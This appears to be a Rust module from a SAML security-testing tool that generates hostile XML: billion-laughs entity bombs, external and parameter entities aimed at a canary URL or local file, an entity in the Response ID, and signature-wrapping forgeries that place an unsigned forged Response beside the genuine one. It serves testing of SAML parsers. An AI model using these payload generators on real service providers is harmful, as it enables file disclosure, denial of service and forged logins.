//! Documents that two parsers read differently, or that no parser should read to the end.

use super::Attacker;
use super::document::Document;
use crate::WireError;
use crate::tree::Edits;
use serde::{Deserialize, Serialize};

/// What a document type declaration asks a parser to do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum DtdForm {
    /// Nested entities that expand to gigabytes, and a reference to the last of them.
    Bomb,
    /// An external entity, which is to be fetched, and a reference to it.
    ExternalEntity,
    /// An external subset, which is to be fetched.
    ExternalSubset,
    /// An external entity with a file behind it, and a reference to it.
    File,
    /// A parameter entity, which is to be fetched.
    ParameterEntity,
    /// An entity in the place of the ID of the Response.
    EntityInId,
}

/// Which root element is the forged one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ForgedRoot {
    /// The first.
    First,
    /// The last.
    Last,
}

impl DtdForm {
    pub(super) fn sentence(self) -> &'static str {
        match self {
            Self::Bomb => "a DOCTYPE declares entities that expand to gigabytes",
            Self::ExternalEntity => "a DOCTYPE declares an external entity",
            Self::ExternalSubset => "a DOCTYPE has an external subset",
            Self::File => "a DOCTYPE declares an entity with a file behind it",
            Self::ParameterEntity => "a DOCTYPE declares an external parameter entity",
            Self::EntityInId => "the ID of the Response is an entity that a DOCTYPE declares",
        }
    }

    /// Whether the Status refers to what is declared.
    pub(super) fn is_in_status(self) -> bool {
        matches!(self, Self::Bomb | Self::ExternalEntity | Self::File)
    }

    /// What stands behind the name of the root element. Nothing that it names is outside of the machine.
    fn declaration(self, id: &str, attacker: &Attacker<'_>) -> String {
        let (canary, file) = (attacker.canary, attacker.file);
        match self {
            Self::Bomb => {
                let levels = (1..=9).map(|level| {
                    let below = format!("&e{};", level - 1).repeat(10);
                    format!(r#"<!ENTITY e{level} "{below}">"#)
                });
                format!(r#"[<!ENTITY e0 "x">{}]"#, levels.collect::<String>())
            }
            Self::ExternalEntity => format!(r#"[<!ENTITY e9 SYSTEM "{canary}">]"#),
            Self::ExternalSubset => format!(r#"SYSTEM "{canary}""#),
            Self::File => format!(r#"[<!ENTITY e9 SYSTEM "{file}">]"#),
            Self::ParameterEntity => {
                format!(r#"[<!ENTITY % external SYSTEM "{canary}"> %external;]"#)
            }
            Self::EntityInId => format!(r#"[<!ENTITY id "{id}">]"#),
        }
    }
}

/// A DOCTYPE in front of the root element, and a reference to what it declares.
pub(super) fn dtd(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    form: DtdForm,
) -> Result<String, WireError> {
    let tree = &document.tree;
    let name = tree.sibling_name(document.response, "Response");
    let id = tree.attribute(document.response, "ID").unwrap_or_default();
    let declaration = form.declaration(&document.xml[id.clone()], attacker);
    let mut edits = Edits::default();
    edits.insert(tree.range(document.response).start, format!("<!DOCTYPE {name} {declaration}>"));
    match form {
        DtdForm::Bomb | DtdForm::ExternalEntity | DtdForm::File => {
            // That of the Response would not hold with what stands in the Status.
            document.unsign_response_beside_assertion(&mut edits);
            let message = tree.sibling_name(document.response, "StatusMessage");
            let status = super::place::status(document)?;
            let text = format!("<{message}>&e9;</{message}>");
            super::place::append(document, &mut edits, status, &text);
        }
        DtdForm::EntityInId => edits.replace(id, "&id;"),
        DtdForm::ExternalSubset | DtdForm::ParameterEntity => {}
    }
    Ok(edits.apply(document.xml))
}

/// Two root elements, one after the other: the genuine Response and a forged one without signatures.
pub(super) fn roots(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    forged: ForgedRoot,
) -> Result<String, WireError> {
    let whole = document.tree.range(document.response);
    let mut edits = Edits::default();
    document.forge(&mut edits, attacker)?;
    for (_, signature) in document.signed_elements()? {
        edits.remove(document.tree.range(signature));
    }
    let copy = edits.apply_to(document.xml, whole.clone());
    let mut edits = Edits::default();
    match forged {
        ForgedRoot::First => edits.insert(whole.start, copy),
        ForgedRoot::Last => edits.insert(whole.end, copy),
    }
    Ok(edits.apply(document.xml))
}
